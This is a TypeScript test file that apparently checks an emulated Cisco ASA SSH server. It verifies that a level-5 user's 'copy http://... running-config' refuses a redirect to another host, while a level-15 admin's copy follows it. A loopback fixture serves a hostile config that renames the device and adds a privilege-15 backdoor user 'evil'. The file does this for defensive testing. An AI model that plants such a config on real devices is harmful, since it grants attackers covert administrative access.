// Issue 11, point 15, end to end: a level-5 user over SSH, allowed `copy` and `configure` by the
// privilege table under `aaa authorization command LOCAL`, copies http://127.0.0.1:P/x to the
// running-config; P redirects to another host (127.0.0.2): the copy fails with ASA's error and nothing
// of the other host's file runs. A level-15 admin's same copy follows the redirect (ASA does). Real
// HTTP servers on two loopback addresses, headend's SSH server, an ssh2 client.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { baseConfig } from '../helpers/ssh-headend.ts';
import { cleanup, connect, rig, shell, type Rig, type Shell } from '../helpers/ssh-inproc.ts';

const ADDR = '127.47.0.1';
const FROM = '127.47.0.9';
let near: http.Server;
let far: http.Server;
let url: string;
let farHits = 0;

beforeAll(async () => {
  far = http.createServer((req, res) => {
    farHits++;
    if (req.url === '/evil.cfg') res.writeHead(200).end('hostname owned\nusername evil password evilpw privilege 15\n');
    else res.writeHead(404).end();
  });
  await new Promise<void>((r) => far.listen(0, '127.0.0.2', r));
  const farUrl = `http://127.0.0.2:${(far.address() as AddressInfo).port}/evil.cfg`;
  near = http.createServer((req, res) => {
    if (req.url === '/x') res.writeHead(302, { location: farUrl }).end();
    else res.writeHead(404).end();
  });
  await new Promise<void>((r) => near.listen(0, '127.0.0.1', r));
  url = `http://127.0.0.1:${(near.address() as AddressInfo).port}/x`;
});

afterAll(async () => {
  await new Promise((r) => near.close(r));
  await new Promise((r) => far.close(r));
});
afterEach(() => cleanup());

async function login(r: Rig, user: string, password: string): Promise<Shell> {
  const s = await shell(await connect(r, { user, password, from: FROM }));
  await s.until(/headend[>#] $/);
  await s.cmd('terminal pager 0');
  return s;
}

const CONFIG = [
  'username op password oppass privilege 5',
  'aaa authorization exec LOCAL auto-enable',
  'aaa authorization command LOCAL',
  'privilege cmd level 5 command copy',
  'privilege cmd level 5 command configure',
  'privilege cmd level 5 mode cmd command hostname',
];

describe('copy http:// running-config by a level-5 user', () => {
  it('a redirect to another host fails with %Error reading URL (Redirected to another host); nothing runs', async () => {
    const r = await rig(ADDR, baseConfig(ADDR, CONFIG));
    const s = await login(r, 'op', 'oppass');
    expect(await s.cmd('show curpriv')).toContain('Current privilege level : 5');
    farHits = 0;
    const out = await s.cmd(`copy /noconfirm ${url} running-config`, /headend# $/);
    expect(out).toContain(`%Error reading ${url} (Redirected to another host)`);
    expect(farHits).toBe(0);
    expect(r.app.config.model.hostname).toBe('headend');
    expect(r.app.config.model.usernames.has('evil')).toBe(false);

    // a level-15 admin's copy follows it; the file runs at 15
    const a = await login(r, 'admin', 'adminpw');
    const done = await a.cmd(`copy /noconfirm ${url} running-config`, /owned# $/);
    expect(done).toMatch(/bytes copied/);
    expect(farHits).toBe(1);
    expect(r.app.config.model.usernames.has('evil')).toBe(true);
  });
});
